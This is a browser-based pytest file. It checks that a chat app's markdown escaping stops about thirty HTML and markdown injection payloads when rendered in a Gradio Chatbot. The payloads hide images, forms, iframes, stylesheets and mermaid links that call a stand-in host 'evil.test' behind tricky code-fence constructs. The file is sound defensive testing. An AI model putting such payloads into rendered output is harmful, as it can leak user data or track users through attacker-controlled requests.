"""The message guard (web/formatting.py, `escape(..., message=True)`) against the renderer the page
really uses: Gradio 6.31's Chatbot, built as the app builds it (web/ui.py `chat_view`), in headless
Debian chromium. Every hostile message is guarded, shown, and then the page is searched: no element
that fetches, submits or links (<img>, <form>, <a href>, <video>, a mermaid diagram, ...) may come of
it, and no request may leave for the hostile host. The one link allowed is GFM's bare URL, whose text
is its own target (nothing fetched, nothing disguised). A control message, shown unguarded, proves the
search finds what it looks for; code blocks must still read exactly as written.

Skipped without /usr/bin/chromium, as tests/web/test_browser.py is (LLMWEB_REQUIRE_BROWSER=1 fails).
"""

from __future__ import annotations

import time

import gradio as gr
import pytest

from llmweb.web import formatting as f
from llmweb.web.ui import chat_view
from tests.web.test_browser import VIEWPORT, browser, launch_chromium  # noqa: F401 (browser is a fixture)

pytestmark = pytest.mark.browser

EVIL = "evil.test"
ACTIVE = f"""![pixel](http://{EVIL}/md-image) <img src=http://{EVIL}/img>
<form action=http://{EVIL}/form><input name=q value=secret><button>go</button></form>
[link](http://{EVIL}/link) <video src=http://{EVIL}/video autoplay></video>"""

# name -> message; each hides active content behind a construct where a fence's extent is in doubt
HOSTILE = {
    "closed by ```~ (the finding)": f"```\ncode\n```~\n{ACTIVE}",
    "closed by ~~~` ": f"~~~\ncode\n~~~` \n{ACTIVE}",
    "closed by a longer fence": f"```\ncode\n``````\n{ACTIVE}",
    "a longer fence, a shorter line inside": f"````\n```\n{ACTIVE}\n````\n{ACTIVE}",
    "a closer with a tab is no closer": f"```\ncode\n```\t\n{ACTIVE}\n```\n{ACTIVE}",
    "an opening three spaces in": f"   ```python\ncode\n   ```\n{ACTIVE}",
    "an opening one space in, closed at the margin": f" ```\ncode\n```\n{ACTIVE}\n```\n{ACTIVE}",
    "a tab before the fence": f"\t```\n{ACTIVE}\n```\n{ACTIVE}",
    "Gradio dedents lines 2+ (cleandoc)": f"```\n    code\n    ```\n    <img src=http://{EVIL}/dedent>",
    "Gradio strips the first line": f"   text\n    ```\n    code\n    ```\n    <img src=http://{EVIL}/strip>",
    "info string with a backtick: no fence": f"```a`b\n{ACTIVE}\n```\n{ACTIVE}",
    "tilde info string with backticks": f"~~~ x `y` z\n{ACTIVE}\n~~~\n{ACTIVE}",
    "unclosed fence": f"```\n{ACTIVE}",
    "empty fence": f"```\n```\n{ACTIVE}",
    "fence at the end, info after a paragraph": f"para\n```<img src=http://{EVIL}/info>",
    "U+2028 is no line break": f"text\u2028```\n{ACTIVE}\n```",
    "form feed and NEL are no line breaks": f"a\x0c```\n{ACTIVE}\nb\x85```\n{ACTIVE}",
    "carriage returns are line breaks": f"```\r\ncode\r```\r{ACTIVE}",
    "fence in a list item": f"- item\n  ```\n  {ACTIVE}\n  ```\n```\n{ACTIVE}\n```\n{ACTIVE}",
    "list item over a blank line": f"1. step\n\n   ```\n   code\n\n```\n{ACTIVE}\n```\n{ACTIVE}",
    "fence in a quote": f"> ```\n> {ACTIVE}\n```\n{ACTIVE}\n```\n{ACTIVE}",
    "quote, lazy line": f"> quote\n{ACTIVE}\n```\ncode\n```\n{ACTIVE}",
    "table then fence": f"| a |\n|---|\n```\ncode\n```\n{ACTIVE}",
    "setext heading then fence": f"Title\n===\n```\ncode\n```\n{ACTIVE}",
    "latex hides an opening": f"$$\n```\n$$\n{ACTIVE}",
    "latex hides a closer": f"```\n$$\n```\n$$\n{ACTIVE}\n```\n{ACTIVE}",
    "latex holds tags": f"$$<img src=http://{EVIL}/latex> x$$",
    "mermaid diagram": f'```mermaid\ngraph TD\nA["<img src=http://{EVIL}/mermaid>"]\nclick A href "http://{EVIL}/click"\n```',
    "mermaid after one character": f"a```mermaid\n<img src=http://{EVIL}/mermaid2>\n```",
    "mermaid in a list item": f"- ```mermaid\n  <img src=http://{EVIL}/mermaid3>\n  ```",
    "mermaid closed mid-line": f"```mermaid\nx```\n{ACTIVE}\n```",
    "reference definition": f"[ref]: http://{EVIL}/ref\n\n![x][ref] [y][ref] [ref]",
    "raw tags": f"<details open><summary>s</summary></details><iframe src=http://{EVIL}/frame></iframe>"
    f"<link rel=stylesheet href=http://{EVIL}/css><style>@import url(http://{EVIL}/imp)</style>"
    f"<svg><image href=http://{EVIL}/svg /></svg><audio src=http://{EVIL}/audio autoplay></audio>",
    "html comment and autolink": f"<!-- x --><http://{EVIL}/auto> <a href=http://{EVIL}/a>a</a>",
}
CODE = 'if a[0](x) < 3 and s == "<b>": print(f"{x}")  # [ref]: http://x.test'
READS_AS_WRITTEN = {  # the message, and the text its one code block must show
    "a fence": (f"Try:\n\n```python\n{CODE}\n```", CODE),
    "a tilde fence closed by ~~~`": (f"~~~\n{CODE}\n~~~`", CODE),
    "a fence after a list": (f"- a\n- b\n\n```\n{CODE}\n```", CODE),
}
CONTROL = f"<img src=http://{EVIL}/control> [c](http://{EVIL}/control-link)"

FIND_ACTIVE = """(sel) => Array.from(document.querySelectorAll(sel)).map((message) => {
    const found = [];
    for (const el of message.querySelectorAll('*')) {
        if (el.closest('.copy_code_button') || el.closest('.katex')) continue;
        const tag = el.tagName.toLowerCase();
        if (tag === 'a' && el.attributes.length === 3 && [el.href, 'http://' + el.textContent,
                'mailto:' + el.textContent].some((h) => decodeURI(el.getAttribute('href')) === decodeURI(h)
                    && decodeURI(h).endsWith(el.textContent))) continue;  // a bare URL: the link shows its target
        const active = ['img', 'image', 'form', 'input', 'button', 'iframe', 'video', 'audio', 'object',
            'embed', 'link', 'meta', 'style', 'svg', 'textarea', 'select', 'details', 'a', 'source', 'base'];
        if (active.includes(tag) || el.hasAttribute('src') || el.hasAttribute('href')
                || el.hasAttribute('action') || el.classList.contains('mermaid')) {
            found.push(el.outerHTML.slice(0, 160));
        }
    }
    return found;
})"""
CODE_TEXTS = """(sel) => Array.from(document.querySelectorAll(sel)).map(
    (message) => Array.from(message.querySelectorAll('pre code')).map((c) => c.textContent))"""


@pytest.fixture(scope="module")
def shown(browser):  # noqa: F811
    """The guarded messages and an unguarded control, rendered in the app's own Chatbot."""
    guarded = [*HOSTILE.values(), *(m for m, _ in READS_AS_WRITTEN.values())]
    with gr.Blocks() as demo:
        chat_view(value=[{"role": "assistant", "content": f.escape(m, message=True)} for m in guarded])
        gr.Chatbot(value=[{"role": "assistant", "content": CONTROL}], elem_id="control")
    _, url, _ = demo.launch(prevent_thread_lock=True, quiet=True)
    context = browser.new_context(viewport=VIEWPORT)
    requests: list[str] = []
    try:
        page = context.new_page()
        page.on("request", lambda r: requests.append(r.url))
        page.goto(url, wait_until="domcontentloaded", timeout=120_000)
        bubbles = '#llmweb-chat [data-testid="bot"]'
        deadline = time.monotonic() + 120
        while page.locator(bubbles).count() < len(guarded) and time.monotonic() < deadline:
            time.sleep(0.25)
        page.locator('#control [data-testid="bot"] img').wait_for(state="attached", timeout=60_000)
        time.sleep(3)  # mermaid and KaTeX load lazily: give a diagram the time to appear
        yield {
            "active": page.evaluate(FIND_ACTIVE, bubbles),
            "control": page.evaluate(FIND_ACTIVE, '#control [data-testid="bot"]'),
            "code": page.evaluate(CODE_TEXTS, bubbles),
            "requests": requests,
        }
    finally:
        context.close()
        demo.close()


def test_the_search_finds_active_content_in_an_unguarded_message(shown):
    (found,) = shown["control"]
    assert any("<img" in e for e in found) and any("<a " in e for e in found), found
    assert any(f"{EVIL}/control" in u for u in shown["requests"]), "the control's image was fetched"


@pytest.mark.parametrize("name", list(HOSTILE))
def test_no_active_element_comes_of_a_hostile_message(shown, name):
    assert len(shown["active"]) == len(HOSTILE) + len(READS_AS_WRITTEN), "every message was rendered"
    found = shown["active"][list(HOSTILE).index(name)]
    assert found == [], f"{name!r} rendered live: {found}"


def test_no_request_leaves_for_the_hostile_host(shown):
    leaked = [u for u in shown["requests"] if EVIL in u and "/control" not in u]
    assert leaked == []


@pytest.mark.parametrize("name", list(READS_AS_WRITTEN))
def test_a_fenced_code_block_reads_exactly_as_written(shown, name):
    message, code = READS_AS_WRITTEN[name]
    codes = shown["code"][len(HOSTILE) + list(READS_AS_WRITTEN).index(name)]
    assert [c.rstrip("\n") for c in codes] == [code], "shown as code, with no hidden characters"
    assert f.message_text(f.escape(message, message=True)) == message
